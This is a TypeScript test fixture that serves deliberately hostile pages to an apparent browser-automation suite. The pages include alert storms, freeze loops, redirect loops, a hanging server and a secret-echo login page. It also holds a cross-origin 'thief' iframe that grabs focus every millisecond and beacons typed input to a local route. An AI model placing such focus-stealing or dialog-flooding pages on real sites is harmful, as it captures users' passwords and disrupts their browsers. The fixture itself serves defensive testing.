// The hostile pages the suite drives, served by the test fixture server: a focus thief in a
// cross-origin frame, alert storms, a handler that never returns, a huge DOM, redirect loops, a
// server that never answers, a download, and a button that counts its clicks server-side.
import type { FixtureServer } from '../../test/helpers/fixture-server.js';

export interface Hostile {
  server: FixtureServer;
  /** http://127.0.0.1:P: the origin secrets are allowed on. */
  base: string;
  /** http://localhost:P: the same server under another origin (a cross-origin frame). */
  other: string;
  /** Clicks the counter page's button reported (by beacon) since the last reset. */
  clicks(): number;
  resetClicks(): void;
  /** Every request that reached the thief frame's beacon: target and body. */
  stolen: string[];
  /** Paths of every page, for the fuzzer's valid URLs. */
  pages: string[];
}

const html = (title: string, body: string) =>
  `<!doctype html><html><head><meta charset="utf-8"><title>${title}</title></head><body>${body}</body></html>`;

const escapeHtml = (s: string) => s.replace(/[&<>"]/g, (c) => `&#${c.charCodeAt(0)};`);

export function serveHostile(server: FixtureServer): Hostile {
  const base = server.PREFIX;
  const other = `http://localhost:${server.port}`;
  let clicks = 0;
  const stolen: string[] = [];

  server.setContent(
    '/rel/form.html',
    html(
      'Form',
      `<h1>Contact</h1><label for="name">Name</label><input id="name" name="name">
       <label for="topic">Topic</label><select id="topic"><option>Sales</option><option>Support</option></select>
       <button id="save" onclick="document.getElementById('out').textContent='Saved '+document.getElementById('name').value">Save</button>
       <p id="out"></p><ul>${Array.from({ length: 20 }, (_, i) => `<li><a href="/rel/form.html#${i}">Item ${i}</a></li>`).join('')}</ul>`,
    ),
  );
  server.setContent(
    '/rel/counter.html',
    html('Counter', `<button onclick="navigator.sendBeacon('/rel/click')">Count</button>`),
  );
  server.setRoute('/rel/click', (_req, res) => {
    clicks++;
    res.writeHead(204).end();
  });
  server.setContent(
    '/rel/login.html',
    html(
      'Sign in',
      `<form action="/rel/welcome" method="get">
         <label for="user">User</label><input id="user" name="user">
         <label for="pw">Password</label><input id="pw" name="pw" type="password">
         <label for="pin">PIN</label><input id="pin" name="pin">
         <button>Sign in</button></form>`,
    ),
  );
  // Echoes what was submitted into the title and the page: every surface must scrub it.
  server.setRoute('/rel/welcome', (req, res) => {
    const q = new URL(req.url ?? '/', 'http://x').searchParams;
    const echoed = escapeHtml(`${q.get('pw') ?? ''}${q.get('pin') ?? ''}`);
    // It also keeps the value in a cookie and localStorage: state_save must scrub those too.
    res.writeHead(200, {
      'content-type': 'text/html; charset=utf-8',
      'set-cookie': `echo=${encodeURIComponent(q.get('pin') ?? '')}; Path=/`,
    });
    res.end(
      html(
        `Welcome ${echoed}`,
        `<p>Welcome</p><p id="echo">${echoed}</p><script>localStorage.setItem('echo', document.getElementById('echo').textContent)</script>`,
      ),
    );
  });
  // The thief frame's input takes focus every millisecond and beacons what it receives home.
  server.setContent(
    '/rel/thief-frame.html',
    html(
      'Frame',
      `<input id="steal" aria-label="Newsletter">
       <script>
         const i = document.getElementById('steal');
         setInterval(() => i.focus(), 1);
         window.addEventListener('focus', () => i.focus());
         i.addEventListener('input', () => navigator.sendBeacon('/rel/stolen', i.value));
       </script>`,
    ),
  );
  server.setRoute('/rel/stolen', (req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      stolen.push(`${req.headers.host} ${req.url} ${Buffer.concat(chunks).toString('utf8')}`);
      res.writeHead(204).end();
    });
  });
  server.setContent(
    '/rel/thief.html',
    html(
      'Thief',
      `<label for="pw">Password</label><input id="pw" type="password">
       <iframe src="${other}/rel/thief-frame.html" width="300" height="80"></iframe>`,
    ),
  );
  // The page itself moves focus into the frame when its own field is focused.
  server.setContent(
    '/rel/thief-move.html',
    html(
      'Thief (page moves focus)',
      `<label for="pw">Password</label><input id="pw" type="password">
       <iframe id="f" src="${other}/rel/thief-frame.html" width="300" height="80"></iframe>
       <script>document.getElementById('pw').addEventListener('focus', () => document.getElementById('f').focus());</script>`,
    ),
  );
  server.setContent(
    '/rel/alert-storm.html',
    html('Alerts', `<p>Storm</p><script>setInterval(() => alert('storm'), 50);</script>`),
  );
  server.setContent(
    '/rel/dialog-mix.html',
    html(
      'Dialog mix',
      `<p>Mix</p><script>setInterval(() => { alert('a'); confirm('c'); prompt('p'); }, 10);</script>`,
    ),
  );
  server.setContent(
    '/rel/alert-loop.html',
    html('Alert loop', `<p>Loop</p><script>for (let i = 0; i < 100000; i++) alert(i);</script>`),
  );
  server.setContent('/rel/xs.html', html('Xs', `<p>${'x'.repeat(40)}</p>`));
  // Shown, 150,000 rows take seconds to lay out, each time their width changes.
  server.setContent(
    '/rel/rows.html',
    html(
      'Rows',
      `<div id="rows" hidden>${'<div class="row"><span>Row</span> <b>cell</b> <i>more</i></div>'.repeat(150_000)}</div>`,
    ),
  );
  server.setContent(
    '/rel/click-alerts.html',
    html(
      'Click alerts',
      `<button onclick="for (let i = 0; i < 50; i++) alert('alert ' + i)">Raise</button>`,
    ),
  );
  server.setContent(
    '/rel/loop-click.html',
    html('Loop', `<button onclick="for (;;) {}">Freeze</button>`),
  );
  server.setContent(
    '/rel/huge.html',
    html(
      'Huge',
      Array.from(
        { length: 20_000 },
        (_, i) => `<div class="row"><span>Row ${i}</span><button>Act ${i}</button></div>`,
      ).join(''),
    ),
  );
  server.setRoute('/rel/redirect-loop', (_req, res) => {
    res.writeHead(302, { location: '/rel/redirect-loop' }).end();
  });
  server.setContent(
    '/rel/js-redirect-loop.html',
    html('Bounce', `<script>setTimeout(() => location.reload(), 10)</script>`),
  );
  // Headers and then nothing for 25 s: a server that never finishes the page.
  server.setRoute('/rel/hang', (_req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' });
    res.write('<!doctype html><title>Hang</title><p>Loading');
    const timer = setTimeout(() => res.end('</p>'), 25_000);
    res.on('close', () => clearTimeout(timer));
  });
  server.setRoute('/rel/download', (_req, res) => {
    res.writeHead(200, {
      'content-type': 'application/octet-stream',
      'content-disposition': 'attachment; filename="report.bin"',
    });
    res.end(Buffer.alloc(64 * 1024, 7));
  });
  server.setContent(
    '/rel/download.html',
    html('Download', `<a href="/rel/download" download>Get report</a>`),
  );

  return {
    server,
    base,
    other,
    clicks: () => clicks,
    resetClicks: () => void (clicks = 0),
    stolen,
    pages: [
      '/rel/form.html',
      '/rel/counter.html',
      '/rel/login.html',
      '/rel/thief.html',
      '/rel/alert-storm.html',
      '/rel/dialog-mix.html',
      '/rel/click-alerts.html',
      '/rel/huge.html',
      '/rel/redirect-loop',
      '/rel/hang',
      '/rel/download.html',
      '/api/slow?ms=3000',
      '/status/500',
    ],
  };
}
